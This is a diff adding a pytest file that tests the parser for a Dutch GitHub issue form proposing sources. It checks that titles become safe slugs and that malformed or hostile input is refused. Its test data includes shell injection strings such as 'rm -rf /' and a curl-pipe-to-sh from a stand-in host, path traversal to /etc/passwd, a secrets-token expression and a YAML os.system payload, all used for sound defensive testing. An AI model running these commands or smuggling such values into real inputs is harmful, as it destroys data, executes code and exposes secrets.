@@ -1,0 +1,127 @@
+"""The form "Bron voorstellen": what it says, and what it cannot make us do."""
+
+import re
+from pathlib import Path
+
+import form
+import pytest
+import samples
+import yaml
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dossier.model import DocumentKind
+
+TEMPLATE = Path(__file__).parent.parent / ".github" / "ISSUE_TEMPLATE" / "bron-voorstellen.yml"
+COMMANDS = [
+    "$(touch /tmp/x)",
+    "`id`",
+    "'; rm -rf / #",
+    '" && curl https://elders.example | sh',
+    "${{ secrets.GITHUB_TOKEN }}",
+    "../../../etc/passwd",
+    "..\\..\\x",
+    "a\x00b",
+    "-rf",
+    "CON",
+    "x: !!python/object/apply:os.system [id]",
+    "- a\n- b",
+    "publiceren: true\nrechten: overheid",
+    "&anker *anker",
+    "%TAG ! tag:elders.example",
+    "🦊" * 50,
+    "a" * 5000,
+]
+
+
+def filled(**answers: str) -> str:
+    """Return the form, with other answers to some of its questions."""
+    text = samples.FORM
+    for label, answer in answers.items():
+        before, heading, rest = text.partition(f"### {label}")
+        question, _, after = rest.partition("\n\n")
+        _, end, others = after.partition("\n\n### ")
+        text = f"{before}{heading}{question}\n\n{answer}{end or chr(10)}{others}"
+    return text
+
+
+def test_a_form_as_it_should_be() -> None:
+    proposal = form.read_form(samples.FORM)
+    assert proposal == form.Proposal(
+        title="AI en de toekomst van werk",
+        kind=DocumentKind.RAPPORT,
+        address="https://voorbeeld.invalid/rapport.pdf",
+        uploaded=None,
+        theme="Robotbelasting",
+        why="Het rekent een belasting op robots door.",
+    )
+    assert proposal.name == "rapport-ai-en-de-toekomst-van-werk"
+
+
+def test_the_template_asks_what_is_read() -> None:
+    asked = [x for x in yaml.safe_load(TEMPLATE.read_text("utf-8"))["body"] if "id" in x]
+    assert tuple(each["attributes"]["label"] for each in asked) == form.LABELS
+    kinds = next(each["attributes"]["options"] for each in asked if each["id"] == "soort")
+    assert kinds == [form.UNKNOWN, *(kind.value for kind in DocumentKind)]
+
+
+def test_an_uploaded_file() -> None:
+    upload = "[a b.pdf](https://github.com/user-attachments/files/123/a.b.pdf)"
+    proposal = form.read_form(filled(Adres="_No response_", Bestand=upload, Soort="weet ik niet"))
+    assert proposal.uploaded == "https://github.com/user-attachments/files/123/a.b.pdf"
+    assert proposal.address is None
+    assert proposal.name == "bron-ai-en-de-toekomst-van-werk"
+
+
+@pytest.mark.parametrize("text", COMMANDS)
+def test_a_name_is_made_of_letters_digits_and_hyphens(text: str) -> None:
+    try:
+        proposal = form.read_form(filled(Titel=text))
+    except form.FormError:
+        return
+    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", proposal.name)
+    assert len(proposal.name) <= 80
+    assert "\n" not in proposal.title
+
+
+@given(st.text(min_size=1, max_size=200))
+def test_any_title_gives_a_name_or_is_refused(text: str) -> None:
+    try:
+        proposal = form.read_form(filled(Titel=text))
+    except form.FormError:
+        return
+    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", proposal.name)
+
+
+@pytest.mark.parametrize(
+    ("body", "told"),
+    [
+        ("", "niet het formulier"),
+        ("iets anders", "niet het formulier"),
+        (f"vooraf\n{samples.FORM}", "niet het formulier"),
+        (f"{samples.FORM}\n### Adres\n\nhttps://elders.example/", "kopje in een antwoord"),
+        (filled(Waarom="Zo.\n\n### Bestand\n\nx"), "kopje in een antwoord"),
+        (filled(Waarom="<!-- ### Adres -->"), "niet te zien"),
+        (filled(Titel="a\u202eb"), "niet te zien"),
+        (filled(Titel="a\x1b[31m"), "niet te zien"),
+        (filled(Waarom="a" * 20_001), "te lang"),
+        (filled(Titel="_No response_"), "vul bij 'Titel' in"),
+        (filled(Adres="_No response_"), "vul een adres in"),
+        (filled(Soort="geheim"), "kies bij 'Soort'"),
+        (filled(Adres="http://voorbeeld.invalid/"), "begint niet met https://"),
+        (filled(Adres="file:///etc/passwd"), "begint niet met https://"),
+        (filled(Adres="https://u:w@voorbeeld.invalid/"), "een wachtwoord of een poort"),
+        (filled(Adres="https://voorbeeld.invalid:22/"), "een wachtwoord of een poort"),
+        (filled(Adres="https://voorbeeld.invalid/ --output x"), "tekens die daar niet horen"),
+        (filled(Adres="https://voorbeeld.invalid:x/"), "dit is geen adres"),
+        (filled(Adres="https://[voorbeeld/"), "dit is geen adres"),
+    ],
+)
+def test_what_cannot_be_used_is_refused_in_dutch(body: str, told: str) -> None:
+    with pytest.raises(form.FormError, match=re.escape(told)):
+        form.read_form(body)
+
+
+def test_a_file_from_elsewhere_is_no_upload() -> None:
+    with pytest.raises(form.FormError):
+        form.read_form(filled(Adres="_No response_", Bestand="[x](https://elders.example/x.pdf)"))
